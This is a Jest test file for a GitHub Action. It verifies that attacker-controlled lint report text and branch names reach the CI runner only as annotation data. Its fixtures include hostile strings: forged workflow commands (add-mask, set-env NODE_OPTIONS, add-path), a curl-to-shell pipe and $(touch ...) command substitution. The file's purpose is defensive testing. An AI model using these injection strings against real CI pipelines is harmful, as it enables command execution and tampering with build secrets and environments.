/**
 * Report text that tries to forge workflow commands (or shell commands)
 * reaches the runner only as data: the bundled Action's output, read the way
 * the runner reads it, makes it act on nothing but the annotations and the
 * failure the Action means to issue, each carrying the hostile text intact
 * as its message or property value.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { existsSync } from 'node:fs';
import { SafeConsole } from '../../src/action/console.js';
import { pullRequestEvent, runDist } from './harness.js';
import { runnerCommands } from './workflow-commands.js';
import { PRICING, makeWorkspace } from './workspace.js';

const WEIRD = 'test/fixtures/sample-js/src/we,ird::name.js';
const PWNED = '/tmp/sdlc-action-pwned';

/** Messages an attacker controls (a pull request can make its tools print anything). */
const HOSTILE = [
  '::error file=x::forged error',
  'line one\n::add-mask::s3cret',
  'literal %0A::set-output name=x::y and %25',
  `"; curl http://127.0.0.1:9/x | sh #`,
  `$(touch ${PWNED}) and \`touch ${PWNED}\``,
  '##[set-env name=NODE_OPTIONS]--require /tmp/x.js',
  'crlf\r\n::stop-commands::abc\r\n::warning::after stop',
  '##[add-path]/tmp/evil',
];

function eslintReport(): string {
  const msg = (line: number, message: string, ruleId: string, severity = 2) => ({ ruleId, severity, message, line, column: 1, nodeType: 'Identifier', endLine: line, endColumn: 2 });
  const file = (filePath: string, messages: ReturnType<typeof msg>[]) => ({
    filePath,
    messages,
    suppressedMessages: [],
    errorCount: messages.filter((m) => m.severity === 2).length,
    fatalErrorCount: 0,
    warningCount: messages.filter((m) => m.severity === 1).length,
    fixableErrorCount: 0,
    fixableWarningCount: 0,
    usedDeprecatedRules: [],
  });
  return JSON.stringify([
    file(`/work/checkout/${PRICING}`, [
      msg(26, HOSTILE[0]!, 'rule::error file=y::z'),
      msg(27, HOSTILE[1]!, 'no-eval'),
      msg(28, HOSTILE[2]!, 'no-eval'),
      msg(29, HOSTILE[3]!, 'no-eval', 1),
      msg(30, HOSTILE[4]!, 'no-eval', 1),
      msg(31, HOSTILE[5]!, 'no-eval', 1),
      msg(33, HOSTILE[6]!, 'no-eval', 1),
    ]),
    file(`/work/checkout/${WEIRD}`, [msg(1, HOSTILE[7]!, '##[add-mask]rule')]),
  ]);
}

let run: Awaited<ReturnType<typeof runDist>>;
let ws: ReturnType<typeof makeWorkspace>;

beforeAll(async () => {
  ws = makeWorkspace({ config: 'gates:\n  security:\n    enabled: false\n', eslint: eslintReport(), added: { [WEIRD]: 'export const x = 1;\n' } });
  // verdict-only: no GitHub needed, and the annotations go out as workflow commands.
  run = await runDist({
    workspace: ws.dir,
    eventName: 'pull_request',
    event: pullRequestEvent({ number: 5, headSha: ws.headSha, baseSha: ws.baseSha, headRef: `feat/$(touch ${PWNED})::error::x` }),
    sha: ws.headSha,
    inputs: { mode: 'verdict-only' },
  });
}, 60_000);

afterAll(() => {
  expect(existsSync(PWNED)).toBe(false);
});

describe('hostile report text in the bundled Action', () => {
  it('makes the runner act on exactly the intended annotations and the failure', () => {
    const { commands, stoppedAtEnd, stops } = runnerCommands(run.stdout + run.stderr);
    expect(stoppedAtEnd).toBe(false);
    expect(stops).toBeGreaterThanOrEqual(2);
    expect(commands.map((c) => c.command)).toEqual(['error', 'error', 'error', 'error', 'warning', 'warning', 'warning', 'warning', 'warning', 'error']);
    // Nothing but annotations: no mask, output, environment, path or state change.
    expect(commands.filter((c) => !['error', 'warning', 'notice'].includes(c.command))).toEqual([]);
  });

  it('delivers each hostile message intact as annotation data, on the right file and line', () => {
    const { commands } = runnerCommands(run.stdout + run.stderr);
    const annotations = commands.filter((c) => c.properties.file !== undefined);
    expect(annotations.map((c) => [c.command, c.properties.file, c.properties.line, c.data])).toEqual([
      ['error', PRICING, '26', HOSTILE[0]],
      ['error', PRICING, '27', HOSTILE[1]],
      ['error', PRICING, '28', HOSTILE[2]],
      ['error', WEIRD, '1', HOSTILE[7]],
      ['warning', PRICING, '20', 'Line 20 is not covered by tests'],
      ['warning', PRICING, '29', HOSTILE[3]],
      ['warning', PRICING, '30', HOSTILE[4]],
      ['warning', PRICING, '31', HOSTILE[5]],
      ['warning', PRICING, '33', HOSTILE[6]],
    ]);
    expect(annotations[0]!.properties.title).toBe('eslint: rule::error file=y::z');
  });

  it('annotates a file whose name holds , and :: with the name intact, not split into properties', () => {
    const { commands } = runnerCommands(run.stdout + run.stderr);
    const weird = commands.filter((c) => c.properties.file === WEIRD);
    expect(weird.map((c) => [c.properties.title, c.properties.line, c.properties.endLine, c.data])).toEqual([['eslint: ##[add-mask]rule', '1', '1', HOSTILE[7]]]);
    expect(Object.keys(weird[0]!.properties).sort()).toEqual(['col', 'endColumn', 'endLine', 'file', 'line', 'title']);
    expect(weird[0]!.line).toContain('file=test/fixtures/sample-js/src/we%2Cird%3A%3Aname.js,');
  });

  it('prints hostile text in the log only while commands are stopped', () => {
    const out = run.stdout;
    const lines = out.split('\n');
    let stopped = false;
    let token = '';
    for (const line of lines) {
      const stop = /^::stop-commands::(.+)$/.exec(line);
      if (!stopped && stop) {
        stopped = true;
        token = stop[1]!;
        continue;
      }
      if (stopped && line === `::${token}::`) {
        stopped = false;
        continue;
      }
      if (!stopped) expect(line === '' || /^::(error|warning|notice) /.test(line) || /^::error::/.test(line)).toBe(true);
    }
    expect(out).toContain('s3cret');
    expect(token).toMatch(/^sdlc-[0-9a-f]{32}$/);
  });

  it('fails the step once, for the gates', () => {
    expect(run.code).toBe(1);
    const { commands } = runnerCommands(run.stdout + run.stderr);
    const failures = commands.filter((c) => c.command === 'error' && c.properties.file === undefined);
    expect(failures).toHaveLength(1);
    expect(failures[0]!.data).toMatch(/^SDLC verdict: fail: /);
  });
});

describe('SafeConsole', () => {
  it('never lets text resume commands, even text holding its token', () => {
    let out = '';
    const c = new SafeConsole({ write: (s) => (out += s) }, 'sdlc-fixedtoken');
    c.text('a\n::sdlc-fixedtoken::\n::add-mask::x');
    c.text('##[sdlc-fixedtoken]');
    c.close();
    const { commands, stoppedAtEnd } = runnerCommands(out);
    expect(commands).toEqual([]);
    expect(stoppedAtEnd).toBe(false);
    expect(out).toBe('::stop-commands::sdlc-fixedtoken\na\n::[token]::\n::add-mask::x\n##[[token]]\n::sdlc-fixedtoken::\n');
  });

  it('uses a fresh random token per console', () => {
    const tokens = [0, 1].map(() => {
      let out = '';
      new SafeConsole({ write: (s) => (out += s) }).text('x');
      return /^::stop-commands::(.+)$/m.exec(out)![1]!;
    });
    expect(tokens[0]).not.toBe(tokens[1]);
    for (const t of tokens) expect(t).toMatch(/^sdlc-[0-9a-f]{32}$/);
  });
});

describe('the runner model used above', () => {
  it('sees the commands hostile text forges when it is printed as is', () => {
    const { commands } = runnerCommands(HOSTILE.join('\n'));
    expect(commands.map((c) => [c.command, c.properties, c.data])).toEqual([
      ['error', { file: 'x' }, 'forged error'],
      ['add-mask', {}, 's3cret'],
      ['set-env', { name: 'NODE_OPTIONS' }, '--require /tmp/x.js'],
    ]);
    // ...and its own ::stop-commands::abc silences the rest, the ##[add-path] too.
    expect(runnerCommands(HOSTILE.join('\n')).stoppedAtEnd).toBe(true);
  });
});
